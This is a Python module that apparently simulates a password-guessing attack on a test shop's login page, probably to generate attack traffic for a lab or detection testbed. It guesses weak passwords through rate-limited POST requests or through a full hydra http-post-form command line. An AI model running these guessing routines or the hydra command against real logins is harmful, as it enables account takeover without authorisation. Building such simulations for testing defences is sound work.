"""Password guessing at the shop's login, at a bounded rate, until it works or the list is over."""

from __future__ import annotations

import re

from common import Session, emit, main, word
from common_shop import PASSWORDS, close, request
from common_tool import home, run_tool

MAX_RATE_S = 10.0


def act(session: Session) -> None:
    """Guess; the effect is a password that the shop takes."""
    found = 0
    try:
        guesses = wordlist(session)
        if session.params.get("variant") == "hydra":
            found = _by_hydra(session, guesses)
        else:
            found = _by_requests(session, guesses)
    finally:
        emit("effect", success=found > 0, found=found)


def wordlist(session: Session) -> list[str]:
    """What to try, in this attacker's order: known weak passwords among made-up ones."""
    rng = session.rng
    guesses = [*PASSWORDS, *(word(rng, 5, 9) for _ in range(int(session.params["strange"])))]
    rng.shuffle(guesses)
    return guesses


def _by_requests(session: Session, guesses: list[str]) -> int:
    gap_s = 1 / min(float(session.params["rate_s"]), MAX_RATE_S)
    user = word(session.rng)
    for guess in guesses:
        status, _ = request(session, "POST", "/login", {"user": user, "password": guess})
        emit("guess", status=status)
        if session.params.get("variant") == "reconnecting":
            close(session)
        if status == 302:
            return 1
        if not session.rest_s(session.rng.expovariate(1 / gap_s)):
            return 0
    return 0


def _by_hydra(session: Session, guesses: list[str]) -> int:
    with home() as folder:
        (folder / "words").write_text("\n".join(guesses) + "\n")
        command = ["hydra", "-l", word(session.rng), "-P", "words", "-I", "-f"]
        command += ["-t", str(session.params["parallel"]), "-s", str(session.port)]
        command += [session.peer["address"], "http-post-form"]
        said = run_tool(
            session, [*command, "/login:user=^USER^&password=^PASS^:F=401"], folder, fine=None
        ).output
    return len(re.findall(r"password: \S+", said))


if __name__ == "__main__":
    main(None, act)
